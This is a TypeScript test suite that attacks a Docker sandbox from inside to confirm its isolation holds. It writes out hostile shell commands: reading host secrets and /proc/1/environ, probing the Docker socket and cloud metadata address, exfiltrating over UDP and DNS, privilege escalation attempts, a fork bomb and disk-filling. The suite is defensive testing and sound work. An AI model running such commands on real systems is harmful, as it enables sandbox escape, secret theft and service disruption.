import { execFileSync, spawn, type ChildProcess } from "node:child_process";
import { createSocket } from "node:dgram";
import { once } from "node:events";
import { mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { createServer, type Server } from "node:http";
import { networkInterfaces, tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "@jest/globals";
import Dockerode from "dockerode";
import { DEFAULT_DOCKER_OPTIONS, DockerSandbox } from "../../src/sandbox/docker/docker-sandbox.js";
import type { DockerSession } from "../../src/sandbox/docker/docker-session.js";
import { DEFAULT_LIMITS, type ExecResult } from "../../src/sandbox/sandbox.js";
import { peakLiveBytes } from "../support/live-memory.js";
import { describeWith } from "../support/require.js";
import { transpileSources } from "../support/transpile.js";

const METADATA = "169.254.169.254";
const SECRET = "host-secret-4711";
// The operator's own list names the test's listeners: even so the walls behind the list must hold.
const allow_hosts = [`${METADATA}:80`, "127.0.0.1:80"];
const sandbox = new DockerSandbox({ ...DEFAULT_DOCKER_OPTIONS, allow_hosts });
const docker = new Dockerode();

describeWith("docker", await sandbox.unavailableBecause(), "attacks from inside", () => {
  const sessions = new Map<"none" | "registries", DockerSession>();
  const folder = mkdtempSync(join(tmpdir(), "mneme-attack-"));
  let hostServer: Server;
  let hostPort = 0;
  let hostAddresses: string[] = [];
  let hits = 0;

  beforeAll(async () => {
    writeFileSync(join(folder, "secret.txt"), SECRET);
    for (const network of ["none", "registries"] as const)
      sessions.set(
        network,
        await sandbox.open({ run_id: `attack-${network}`, image: null, network, limits: DEFAULT_LIMITS }),
      );
    hostServer = createServer((_request, response) => {
      hits += 1;
      response.end(SECRET);
    }).listen(0, "0.0.0.0");
    await once(hostServer, "listening");
    const address = hostServer.address();
    hostPort = typeof address === "object" && address !== null ? address.port : 0;
    hostAddresses = Object.values(networkInterfaces())
      .flatMap((list) => list ?? [])
      .filter(({ family }) => family === "IPv4")
      .map((entry) => entry.address);
  }, 60_000);

  afterAll(async () => {
    for (const session of sessions.values()) await session[Symbol.asyncDispose]();
    hostServer.closeAllConnections();
    hostServer.close();
    rmSync(folder, { recursive: true, force: true });
  }, 60_000);

  describe.each(["none", "registries"] as const)("network %s", (network) => {
    const run = async (command: string, timeout_ms = 60_000) => {
      const session = sessions.get(network);
      if (session === undefined) throw new Error("not opened");
      return await session.exec(command, { timeout_ms });
    };
    const goesOn = async () => expect((await run("echo alive")).output).toBe("alive\n");

    test("cannot read the host's files", async () => {
      const { output } = await run(
        `cat ${folder}/secret.txt /proc/1/root${folder}/secret.txt /proc/1/environ; ls /host /mnt; grep -rs ${SECRET} /proc/*/environ /proc/*/cmdline /tmp /mnt | grep -v grep`,
      );
      expect(output).not.toContain(`${SECRET}\n`);
      expect(
        (await run("mount | grep -E '/dev/(vd|sd|nvme)' | grep -vE '(resolv.conf|hostname|hosts)'")).output,
      ).not.toContain(" rw");
      await goesOn();
    });

    test("finds no Docker socket", async () => {
      const { output } = await run(
        "find / -name '*.sock' -not -path '/proc/*' 2>/dev/null; curl -s -m 3 --unix-socket /var/run/docker.sock http://d/version; echo rc=$?",
      );
      expect(output).toMatch(/^rc=[^0]\d*\n$/);
    });

    test("reaches no service of the host by any of its addresses, directly or through the proxy", async () => {
      for (const address of hostAddresses) {
        if (address !== "127.0.0.1")
          expect(await (await fetch(`http://${address}:${hostPort}/`)).text()).toBe(SECRET);
      }
      hits = 0;
      const urls = [...hostAddresses, "host.docker.internal", "gateway.docker.internal", "localhost"].map(
        (name) => `http://${name}:${hostPort}/`,
      );
      const gateway = `$(ip route 2>/dev/null | awk '/default/{print $3}' | head -1)`;
      const { output } = await run(
        `for u in ${urls.join(" ")} http://${gateway}:${hostPort}/; do curl -s -m 2 --noproxy '*' "$u"; curl -s -m 2 "$u"; curl -s -m 2 -p "$u"; done; echo done`,
        120_000,
      );
      expect(output).not.toContain(SECRET);
      expect(output).toContain("done");
      expect(hits).toBe(0);
      await goesOn();
    }, 130_000);

    test("reaches no address that its own network's gateway could have", async () => {
      const { output } = await run(
        `python3 - <<'EOF'
import socket, fcntl, struct
def own():
    for name in ("eth0", "eth1"):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        try: yield socket.inet_ntoa(fcntl.ioctl(s.fileno(), 0x8915, struct.pack("256s", name.encode()))[20:24])
        except OSError: pass
for address in own():
    gateway = ".".join(address.split(".")[:3] + ["1"])
    try:
        socket.create_connection((gateway, ${hostPort}), 2).close(); print("REACHED", gateway)
    except OSError as error: print("closed", error)
EOF`,
      );
      expect(output).not.toContain("REACHED");
      expect(hits).toBe(0);
    });

    test("gets nothing from a metadata address", async () => {
      const listener = await startInNamespace(`mneme-${network}`);
      try {
        expect(listener.fetch()).toContain(SECRET);
        const { output } = await run(
          `curl -s -m 3 --noproxy '*' http://${METADATA}/ ; curl -s -m 3 http://${METADATA}/; curl -s -m 3 -p http://${METADATA}/; echo done`,
        );
        expect(output).not.toContain(SECRET);
        if (network === "registries")
          expect(sessions.get(network)?.refusals).toContainEqual({
            target: `${METADATA}:80`,
            reason: "private or link-local address",
          });
      } finally {
        listener.stop();
      }
    });

    test("cannot look up names or send datagrams out", async () => {
      const socket = createSocket("udp4").bind(0);
      await once(socket, "listening");
      let datagrams = 0;
      socket.on("message", () => (datagrams += 1));
      const { port } = socket.address();
      const { output } = await run(
        `getent hosts secret-data.example; python3 - <<'EOF'
import socket
for address in ${JSON.stringify(hostAddresses.filter((address) => address !== "127.0.0.1"))}:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try: s.sendto(b"secret", (address, ${port}))
    except OSError as error: print("closed", error)
try: print("RESOLVED", socket.getaddrinfo("secret-data.example", 80))
except OSError as error: print("no name", error)
EOF`,
        90_000,
      );
      await new Promise((resolve) => setTimeout(resolve, 300));
      socket.close();
      expect(output).toContain("no name");
      expect(output).not.toContain("RESOLVED");
      expect(datagrams).toBe(0);
    }, 100_000);

    test("has no rights to raise", async () => {
      const { output } = await run(
        "id -u; grep -E '^(CapEff|CapBnd|CapPrm|NoNewPrivs|Seccomp):' /proc/self/status; python3 -c 'import os; os.setuid(0)' 2>&1 | tail -1; su -c id 2>&1; unshare -Ur id 2>&1; mount -t tmpfs x /mnt 2>&1; find / -perm -4000 -type f -not -path '/proc/*' 2>/dev/null | head -3 >/dev/null; mknod /tmp/d b 8 0 2>&1; dmesg 2>&1 | head -2; ls /dev/sd* /dev/vd* /dev/kvm /dev/mem 2>&1",
      );
      expect(output).toMatch(/^10001\n/);
      for (const name of ["CapEff", "CapBnd", "CapPrm"])
        expect(output).toMatch(new RegExp(`${name}:\\t0+\\n`));
      expect(output).toMatch(/NoNewPrivs:\t1\n/);
      expect(output).toMatch(/Seccomp:\t2\n/);
      expect(output).not.toMatch(/uid=0/);
      expect(output).toContain("PermissionError");
    });

    test("writes nowhere but in its own folders", async () => {
      const { output } = await run(
        "for d in / /etc /usr/bin /usr/local/bin /lib /var/lib /root /home /opt /sys /proc/sys/kernel /work; do touch $d/x-$$ 2>/dev/null && echo WROTE $d; done; echo done",
      );
      expect(output).toBe("WROTE /work\ndone\n");
      await run("rm -f /work/x-*");
    });

    test("survives a fork bomb", async () => {
      const result = await run("bomb() { bomb | bomb & }; bomb; sleep 60", 3_000);
      expect(result.timed_out).toBe(true);
      await goesOn();
      expect(Number((await run("ls /proc | grep -c '^[0-9]'")).output)).toBeLessThan(12);
    });

    // These walls are the same with and without a network, and they take their time.
    if (network === "none") {
      test("survives a full disk and many files", async () => {
        const result = await run("head -c 8G /dev/zero > big; echo rc=$?; ls -l big | cut -d' ' -f5");
        expect(result.output).toMatch(/No space left/);
        const size = Number(result.output.trim().split("\n").at(-1));
        expect(size).toBeLessThanOrEqual(DEFAULT_LIMITS.disk_mb * 1024 * 1024);
        await run("rm -f big");
        const tmp = await run("head -c 8G /dev/zero > /tmp/big; rm -f /tmp/big");
        expect(tmp.output).toMatch(/No space left/);
        await goesOn();
      });

      test("counts a flood of a gigabyte without keeping it", async () => {
        let result: ExecResult | undefined;
        const held = await peakLiveBytes(async () => {
          result = await run("yes 'all work and no play' | head -c 1073741824", 120_000);
        });
        expect(result).toMatchObject({
          exit_code: 0,
          output_bytes: 1_073_741_824,
          truncated: true,
          timed_out: false,
        });
        expect(result?.output.length).toBeLessThan(1_100_000);
        expect(held).toBeLessThan(64 * 1024 * 1024);
        await goesOn();
      }, 130_000);
    }

    test("reads noise as text", async () => {
      const result = await run("head -c 300000 /dev/urandom");
      expect(result.output_bytes).toBe(300_000);
      expect(result.output).toContain("\ufffd");
    });

    test("ends what ignores SIGTERM and hides in another session", async () => {
      const result = await run(
        "for i in 1 2 3; do (trap '' TERM HUP INT; setsid nohup bash -c 'trap \"\" TERM; while :; do sleep 0.1; done' >/dev/null 2>&1 &); done; trap '' TERM; sleep 30",
        1_500,
      );
      expect(result.timed_out).toBe(true);
      expect((await run("cat /proc/[0-9]*/cmdline | tr '\\0' ' '")).output).not.toContain("sleep 0.1");
    });
  });

  test("sandboxes do not reach each other", async () => {
    const victim = sessions.get("registries");
    if (victim === undefined) throw new Error("not opened");
    await victim.exec(
      "echo secret-of-the-neighbour > s; (setsid python3 -m http.server 8099 >/dev/null 2>&1 &); sleep 1; curl -s --noproxy '*' localhost:8099/s",
    );
    const addresses = (
      await docker.listContainers({ filters: { label: ["io.mneme.run=attack-registries"] } })
    ).flatMap((container) =>
      Object.values(container.NetworkSettings.Networks).map((network) => network.IPAddress),
    );
    expect(addresses.filter(Boolean).length).toBeGreaterThan(1);
    await using attacker = await sandbox.open({
      run_id: "attack-neighbour",
      image: null,
      network: "registries",
      limits: DEFAULT_LIMITS,
    });
    const tries = addresses
      .filter(Boolean)
      .map(
        (address) =>
          `for p in 8099 3128; do curl -s -m 2 --noproxy '*' http://${address}:$p/s; curl -s -m 2 http://${address}:$p/s; done`,
      );
    const { output } = await attacker.exec(`${tries.join("; ")}; echo done`, { timeout_ms: 60_000 });
    expect(output).not.toContain("secret-of-the-neighbour");
    expect(output).toContain("done");
  }, 120_000);

  test("nothing outlives the run", async () => {
    const session = await sandbox.open({
      run_id: "attack-outlive",
      image: null,
      network: "registries",
      limits: DEFAULT_LIMITS,
    });
    await session.exec(
      "(setsid bash -c 'trap \"\" TERM HUP; while :; do echo x >> /tmp/alive; sleep 0.1; done' >/dev/null 2>&1 &); sleep 0.3",
    );
    await session[Symbol.asyncDispose]();
    const filters = { label: ["io.mneme.run=attack-outlive"] };
    expect(await docker.listContainers({ all: true, filters })).toEqual([]);
    expect(await docker.listNetworks({ filters })).toEqual([]);
    expect(await docker.listImages({ filters })).toEqual([]);
  }, 60_000);

  test("what a killed bot left is swept, what a living one uses is not", async () => {
    const target = join(process.cwd(), "node_modules/.cache/mneme-attack/src");
    await transpileSources(target);
    const script = `
      import { DockerSandbox } from ${JSON.stringify(join(target, "sandbox/docker/docker-sandbox.js"))};
      const sandbox = new DockerSandbox();
      const limits = { memory_mb: 256, cpus: 1, pids: 64, disk_mb: 64 };
      const session = await sandbox.open({ run_id: "attack-killed", image: null, network: "none", limits });
      console.log("open");
      await session.exec("sleep 600", { timeout_ms: 600_000 });`;
    const bot = spawn(process.execPath, ["--input-type=module", "-e", script], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    await once(bot.stdout, "data");
    bot.kill("SIGKILL");
    await once(bot, "exit");
    const filters = { label: ["io.mneme.run=attack-killed"] };
    expect(await docker.listContainers({ filters })).toHaveLength(1);
    expect(await sandbox.sweep()).toBeGreaterThanOrEqual(1);
    expect(await docker.listContainers({ all: true, filters })).toEqual([]);
    expect((await sessions.get("none")?.exec("echo alive"))?.output).toBe("alive\n");
  }, 60_000);
});

/** A listener on the metadata address, on an interface of its own inside a network namespace of the test. */
async function startInNamespace(name: string): Promise<{ fetch(): string; stop(): void }> {
  const ip = (...args: string[]) => execFileSync("ip", args, { stdio: ["ignore", "pipe", "pipe"] });
  ip("netns", "add", name);
  let server: ChildProcess | null = null;
  const stop = () => {
    server?.kill("SIGKILL");
    ip("netns", "del", name);
  };
  try {
    ip("-n", name, "link", "set", "lo", "up");
    ip("-n", name, "link", "add", "meta0", "type", "bridge");
    ip("-n", name, "addr", "add", `${METADATA}/32`, "dev", "meta0");
    ip("-n", name, "link", "set", "meta0", "up");
    const program = `require("http").createServer((q, r) => r.end(${JSON.stringify(SECRET)})).listen(80, ${JSON.stringify(METADATA)}, () => console.log("up"))`;
    server = spawn("ip", ["netns", "exec", name, process.execPath, "-e", program], {
      stdio: ["ignore", "pipe", "inherit"],
    });
    if (server.stdout !== null) await once(server.stdout, "data");
  } catch (error) {
    stop();
    throw error;
  }
  const fetchInside = () =>
    execFileSync("ip", [
      "netns",
      "exec",
      name,
      "curl",
      "-s",
      "-m",
      "5",
      "--noproxy",
      "*",
      `http://${METADATA}/`,
    ]).toString();
  return { fetch: fetchInside, stop };
}
